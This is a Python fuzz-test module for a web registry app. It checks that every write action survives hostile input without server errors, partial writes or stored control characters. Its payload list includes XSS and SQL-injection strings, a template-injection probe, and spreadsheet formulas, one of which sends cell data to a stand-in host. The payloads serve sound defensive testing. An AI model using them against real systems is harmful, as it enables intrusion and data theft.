"""Hostile input to every write of the registry (tests/pages.py ACTIONS): never a 500, nothing half-written.

Each example takes the action's minimal valid body, replaces one to three fields (or adds one)
with something hostile (huge or control-laden text, bidi controls, HTML and script, spreadsheet
formulas, impossible Jalali dates, superscript and mixed digits, huge numbers, lone surrogates and
JSON nested thousands deep for the API) and sends it as a role allowed to act. The answer is never
a 5xx; a refused request leaves every table as it was (tests/db_state.py); an accepted one stores
no control, bidi or zero-width character. A new row in ACTIONS is fuzzed with no change here.

PEYVAND_FUZZ_EXAMPLES sets the examples per action (default 3, bounded for CI); for a longer run,
for example PEYVAND_FUZZ_EXAMPLES=200. The examples and 500s per action are printed at the end.
"""
import json
import os
import re
from collections import Counter
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from sqlalchemy import select
from hypothesis import strategies as st

from tests import db_state
from tests.page_rows import ANONYMOUS, API
from tests.pages import ACTIONS, actions_by_name
from tests.test_pages_writes import _signed_in
from tracker.extensions import db
from tracker.models import Base

EXAMPLES = int(os.environ.get("PEYVAND_FUZZ_EXAMPLES", "3"))
FUZZED = [action for action in ACTIONS if action.roles and action.body is not None]

HOSTILE_TEXT = [
    "ب" * 20_001, "ب" * 600_000, "علی\x00رضایی", "\x00", "متن\x07\x1b[31m", "سطر\x85دو", "\x7f\x9f",
    "حسن\u202eرضایی", "\u2066نام\u2069", "نام\u200bخانوار\u2060", "\ufeff\u200e\u200f",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "'; DROP TABLE household; --",
    '=HYPERLINK("http://example.com/?"&A1,"باز کنید")', "+98912", "@SUM(A1:A9)", "-2+3", "\t=1+1",
    "1403/13/01", "1404/12/30", "۱۴۰۳/۰۲/۳۲", "9999-12-31", "0001/01/01", "1299/12/29", "1501/01/01", "24:61",
    "²", "۱2٣", "١٢³", "99999999999999999999", "2147483648", "-1", "0", "1e309", "NaN", "", " ", "None", "%", "_",
]
HOSTILE_JSON = [10**30, 2**31, -1, 0, 1.5, True, None, [], {}, [[[[1]]]], {"a": {"b": "c"}}, "x\ud800y"]
RAW_JSON = ["[" * 5000 + "]" * 5000, '{"a":' * 5000 + "1" + "}" * 5000, '{"name": "\\ud800"}', "{", "null", "\x00"]
# A refused sign-in is recorded, by design: throttling counts the attempt.
RECORDED_WHEN_REFUSED = {"auth.login": {"login_attempt", "audit_entry"}}
# What an accepted write must never store.
UNSTORABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2060\u2066-\u2069\ufeff]")


def hostile(api: bool):
    """Return a strategy of one hostile field value (as a form or a JSON body carries it)."""
    text = st.sampled_from(HOSTILE_TEXT) | st.text(min_size=1, max_size=40)
    return text | st.sampled_from(HOSTILE_JSON) if api else text


@st.composite
def mutated(draw, body: dict, api: bool):
    """Return body with one to three of its fields (or a field it does not have) made hostile."""
    chosen = draw(st.sets(st.sampled_from([*sorted(body), "unexpected"]), min_size=1, max_size=3))
    out = dict(body)
    for name in chosen:
        value = draw(hostile(api))
        out[name] = [value] if isinstance(body.get(name), list) else value
    return out


@pytest.fixture(scope="module")
def site(demo_site, pytestconfig):
    """The demo district with District 22, a read of every row, and the tally printed at the end."""
    with demo_site() as (app, sample):
        with app.app_context():
            saved, fingerprint = db_state.rows(), db_state.fingerprint()
        tally = SimpleNamespace(examples=Counter(), errors=Counter())
        yield SimpleNamespace(app=app, sample=sample, saved=saved, fingerprint=fingerprint, tally=tally)
    report = pytestconfig.pluginmanager.get_plugin("terminalreporter")
    capture = pytestconfig.pluginmanager.get_plugin("capturemanager")
    if report is not None and capture is not None and tally.examples:
        with capture.global_and_fixture_disabled():
            report.write_line(f"\nfuzzed writes: {sum(tally.examples.values())} examples over "
                              f"{len(tally.examples)} actions, {sum(tally.errors.values())} answered 5xx")
            for name, count in sorted(tally.examples.items()):
                report.write_line(f"  {name}: {count} examples, {tally.errors[name]} 5xx")


def _send(site, action, role, body):
    """Send body as role; return (response, tables written, written rows' text)."""
    app = site.app
    client = app.test_client() if action.kind == API or role == ANONYMOUS else _signed_in(app, role)
    with app.app_context():
        url = action.url(app, site.sample, site.sample.own)
        before = db_state.fingerprint()
    if action.kind != API:
        response = client.open(url, method=action.method, data=body)
    else:
        headers = {"Authorization": f"Bearer {site.sample.tokens[role]}", "Content-Type": "application/json"}
        raw = body if isinstance(body, str) else json.dumps(body)
        response = client.open(url, method=action.method, data=raw, headers=headers)
    with app.app_context():
        after = db_state.fingerprint()
        written = db_state.changed(before, after)
        stored = [value for table in written for row in db.session.execute(select(Base.metadata.tables[table]))
                  for value in row if isinstance(value, str)]
        db.session.rollback()
        db_state.restore(site.saved, site.fingerprint, after)
    return response, written, stored


def _accepted(action, response) -> bool:
    """Tell whether the answer says the write was carried out (a form's redirect, an API's 200 or 201)."""
    return response.status_code in (200, 201) if action.kind == API else response.status_code == 302


@pytest.mark.parametrize("name", [action.name for action in FUZZED])
# No shrinking: the first failing body is reported as sent (shrinking would resend it many times).
@settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
          phases=[Phase.explicit, Phase.generate],
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
@given(data=st.data())
def test_hostile_input_is_never_a_server_error_nor_half_written(site, name, data):
    action = actions_by_name()[name]
    role = action.roles[0]
    api = action.kind == API
    with site.app.app_context():
        body = action.body(site.sample, site.sample.own)
    if api and data.draw(st.integers(0, 4), label="raw") == 0:
        body = data.draw(st.sampled_from(RAW_JSON), label="raw body")
    else:
        body = data.draw(mutated(body, api), label="body")
    response, written, stored = _send(site, action, role, body)
    site.tally.examples[name] += 1
    if response.status_code >= 500:
        site.tally.errors[name] += 1
    assert response.status_code < 500, f"{action.method} as {role}: {response.get_data(as_text=True)[:300]}"
    if not _accepted(action, response):
        written = set(written) - RECORDED_WHEN_REFUSED.get(action.endpoint, set())
        assert not written, f"refused with {response.status_code} yet wrote to {written}"
    bad = [value for value in stored if UNSTORABLE.search(value)]
    assert not bad, f"stored {bad[:3]!r}"
